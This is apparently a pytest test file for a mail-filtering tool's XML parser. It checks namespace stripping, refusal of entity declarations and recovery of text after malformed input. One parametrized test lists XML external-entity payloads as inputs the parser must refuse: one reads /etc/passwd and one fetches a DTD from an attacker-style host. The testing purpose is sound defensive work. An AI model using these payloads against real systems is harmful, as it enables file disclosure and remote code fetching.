"""XML is read as a stream, with nothing of it trusted."""

import pytest

from mailguard.content.formats.xml_text import BrokenXml, ForbiddenEntity, parse_xml


def read(payload: bytes) -> list[object]:
    events: list[object] = []
    parse_xml(payload, lambda name, attributes: events.append((name, attributes)), events.append, events.append)
    return events


def test_names_come_without_their_namespace():
    payload = b'<w:p xmlns:w="urn:w" xmlns:r="urn:r" r:id="7"><w:t>a&amp;b</w:t></w:p>'
    assert read(payload) == [("p", {"id": "7"}), ("t", {}), "a&b", "t", "p"]


def test_a_plain_attribute_goes_before_one_with_a_namespace():
    assert read(b'<a xmlns:r="urn:r" r:id="7" id="8"/>')[0] == ("a", {"id": "8"})


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!ENTITY lol "lol">',
        b'<!ENTITY lol SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % lol SYSTEM "http://evil.example/x.dtd"> %lol;',
    ],
)
def test_an_entity_is_refused_before_it_is_used(declaration):
    with pytest.raises(ForbiddenEntity):
        read(b"<!DOCTYPE a [" + declaration + b"]><a>&lol;</a>")


def test_a_document_type_alone_is_fine():
    assert read(b'<!DOCTYPE a PUBLIC "-//X" "http://x.example/x.dtd"><a>b</a>')[1] == "b"


def test_depth_has_no_limit():
    assert len(read(b"<a>" * 100_000 + b"</a>" * 100_000)) == 200_000


def test_what_stands_behind_a_break_is_kept_as_text():
    with pytest.raises(BrokenXml) as broken:
        read(b"<a><b>one</b><c>BSN 999990019</d></a>")
    assert "</" not in broken.value.rest
    with pytest.raises(BrokenXml) as broken:
        read(b"<a>& <b>BSN 999990019</b>")
    assert "BSN 999990019" in broken.value.rest


def test_text_right_before_a_break_is_read():
    events: list[object] = []
    with pytest.raises(BrokenXml):
        parse_xml(b"<t>BSN 999990019 & zoon</t>", lambda *_: None, lambda _: None, events.append)
    assert "".join(map(str, events)).startswith("BSN 999990019")


@pytest.mark.parametrize("encoding", ["no-such-thing", "idna", "utf-7", "shift_jis"])
def test_an_encoding_that_is_not_known_breaks_it_and_its_text_is_kept(encoding):
    with pytest.raises(BrokenXml) as broken:
        read(f'<?xml version="1.0" encoding="{encoding}"?><a>BSN 999990019</a>'.encode())
    assert "BSN 999990019" in broken.value.rest
